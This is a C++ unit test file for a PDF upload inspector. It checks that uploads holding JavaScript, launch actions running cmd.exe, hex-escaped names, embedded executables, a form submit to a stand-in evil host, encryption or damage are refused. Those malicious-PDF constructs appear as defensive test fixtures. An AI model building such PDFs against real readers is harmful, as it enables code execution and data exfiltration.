#include "core/uploads/pdf_inspector.h"

#include <gtest/gtest.h>

#include "core/uploads/file_kind.h"
#include "core/uploads/test_documents_test_util.h"

namespace lumbung::uploads {
namespace {

using testing::LetterPdf;

PdfProblem ProblemOf(const std::string& pdf) {
  return InspectPdf(pdf).problem;
}

TEST(InspectPdf, AnOrdinaryLetterPasses) {
  const std::string pdf = LetterPdf();
  ASSERT_TRUE(IsWellFormedPdf(pdf));
  const PdfReport report = InspectPdf(pdf);
  EXPECT_TRUE(report.ok()) << report.detail;
  EXPECT_EQ(report.pages, 1);
}

TEST(InspectPdf, LinksToWebAddressesAndGoToActionsAreAllowed) {
  const PdfReport report =
      InspectPdf(LetterPdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
                           "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                           "/A << /S /URI /URI (https://lumbung.example/) >> >>]"));
  EXPECT_TRUE(report.ok()) << report.detail;
}

// ASVS 4.0.3 12.2.1: a document that runs script is refused, wherever the script is.
TEST(InspectPdf, JavaScriptIsRefusedWhereverItIs) {
  const std::string action = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
  // The document's names tree.
  EXPECT_EQ(ProblemOf(LetterPdf("/Names << /JavaScript 6 0 R >>", "",
                                {"<< /Names [(a) " + action + "] >>"})),
            PdfProblem::kJavascript);
  // Opening the document.
  EXPECT_EQ(ProblemOf(LetterPdf("/OpenAction " + action)), PdfProblem::kJavascript);
  // The document's and the page's additional actions.
  EXPECT_EQ(ProblemOf(LetterPdf("/AA << /WC " + action + " >>")), PdfProblem::kJavascript);
  EXPECT_EQ(ProblemOf(LetterPdf("", "/AA << /O " + action + " >>")), PdfProblem::kJavascript);
  // A link's action, and a widget's additional actions.
  EXPECT_EQ(ProblemOf(LetterPdf("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " +
                                        action + " >>]")),
            PdfProblem::kJavascript);
  EXPECT_EQ(ProblemOf(LetterPdf("", "/Annots [6 0 R]",
                                {"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /K " +
                                 action + " >> >>"})),
            PdfProblem::kJavascript);
  // In an object nothing refers to.
  EXPECT_EQ(ProblemOf(LetterPdf("", "", {action})), PdfProblem::kJavascript);
  // The script in a stream, the action only naming its type.
  EXPECT_EQ(ProblemOf(LetterPdf("/OpenAction << /S /JavaScript /JS 6 0 R >>", "",
                                {"<< /Length 10 >>\nstream\napp.alert(\nendstream"})),
            PdfProblem::kJavascript);
  // An action of type JavaScript without its /JS key still says what it is.
  EXPECT_EQ(ProblemOf(LetterPdf("/OpenAction << /S /JavaScript >>")), PdfProblem::kJavascript);
}

TEST(InspectPdf, NamesSpelledWithHexEscapesAreReadAsTheyMean) {
  // /J#61vaScript is /JavaScript, /#4a#53 is /JS, /L#61unch is /Launch.
  EXPECT_EQ(ProblemOf(LetterPdf("/OpenAction << /S /J#61vaScript /#4a#53 (x) >>")),
            PdfProblem::kJavascript);
  EXPECT_EQ(ProblemOf(LetterPdf("/OpenAction << /S /L#61unch /F (calc.exe) >>")),
            PdfProblem::kActiveContent);
}

TEST(InspectPdf, LaunchActionsAndEmbeddedFilesAreRefused) {
  EXPECT_EQ(ProblemOf(LetterPdf("/OpenAction << /S /Launch /F (cmd.exe) >>")),
            PdfProblem::kActiveContent);
  EXPECT_EQ(ProblemOf(LetterPdf("", "/AA << /O << /S /Launch /Win << /F (cmd.exe) >> >> >>")),
            PdfProblem::kActiveContent);
  EXPECT_EQ(ProblemOf(LetterPdf("/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) "
                                "/D [0 /Fit] >>")),
            PdfProblem::kActiveContent);
  EXPECT_EQ(ProblemOf(LetterPdf("/OpenAction << /S /SubmitForm /F (https://evil.example/) >>")),
            PdfProblem::kActiveContent);
  // An attachment in the names tree, and its file stream alone.
  const std::string file = "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ!!\nendstream";
  EXPECT_EQ(ProblemOf(LetterPdf("/Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >>", "",
                                {file, "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"})),
            PdfProblem::kActiveContent);
  EXPECT_EQ(ProblemOf(LetterPdf("", "", {file})), PdfProblem::kActiveContent);
  // A file attachment annotation on the page.
  EXPECT_EQ(ProblemOf(LetterPdf("",
                                "/Annots [<< /Type /Annot /Subtype /FileAttachment "
                                "/Rect [0 0 9 9] /FS (a.txt) >>]")),
            PdfProblem::kActiveContent);
  // An XFA form.
  EXPECT_EQ(ProblemOf(LetterPdf("/AcroForm << /Fields [] /XFA 6 0 R >>", "",
                                {"<< /Length 4 >>\nstream\n<x/>\nendstream"})),
            PdfProblem::kActiveContent);
}

TEST(InspectPdf, ScriptWinsOverOtherFindings) {
  EXPECT_EQ(ProblemOf(LetterPdf("/OpenAction << /S /Launch /F (x) >>", "",
                                {"<< /S /JavaScript /JS (x) >>"})),
            PdfProblem::kJavascript);
}

// Any encryption: contents that cannot be inspected, or that staff could not open.
TEST(InspectPdf, EncryptedDocumentsAreRefusedEvenWithoutAPassword) {
  const std::string letter = LetterPdf();
  const std::string open = testing::EncryptedPdf(letter, "");
  const std::string locked = testing::EncryptedPdf(letter, "rahasia");
  ASSERT_TRUE(IsWellFormedPdf(open));
  EXPECT_EQ(ProblemOf(open), PdfProblem::kEncrypted);
  EXPECT_EQ(ProblemOf(locked), PdfProblem::kEncrypted);
}

TEST(InspectPdf, DamagedDocumentsAreRefused) {
  const std::string letter = LetterPdf();
  // The cross-reference table points 5 bytes off: qpdf repairs it, so it is damaged.
  std::string shifted = letter;
  shifted.insert(20, "     ");
  EXPECT_EQ(ProblemOf(shifted), PdfProblem::kDamaged);
  // Cut short, and not a PDF at all.
  EXPECT_EQ(ProblemOf(letter.substr(0, letter.size() / 2)), PdfProblem::kDamaged);
  EXPECT_EQ(ProblemOf("%PDF-1.7\nnothing here\n%%EOF\n"), PdfProblem::kDamaged);
  EXPECT_EQ(ProblemOf(""), PdfProblem::kDamaged);
  EXPECT_EQ(ProblemOf(std::string(1000, '\0')), PdfProblem::kDamaged);
  // Well formed, but no pages.
  EXPECT_EQ(ProblemOf(testing::TextPdf(
                {"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"})),
            PdfProblem::kDamaged);
}

TEST(InspectPdf, ProblemNamesForTheCatalog) {
  EXPECT_EQ(PdfProblemName(PdfProblem::kNone), "");
  EXPECT_EQ(PdfProblemName(PdfProblem::kEncrypted), "encrypted");
  EXPECT_EQ(PdfProblemName(PdfProblem::kJavascript), "javascript");
  EXPECT_EQ(PdfProblemName(PdfProblem::kActiveContent), "active_content");
  EXPECT_EQ(PdfProblemName(PdfProblem::kDamaged), "damaged");
}

}  // namespace
}  // namespace lumbung::uploads
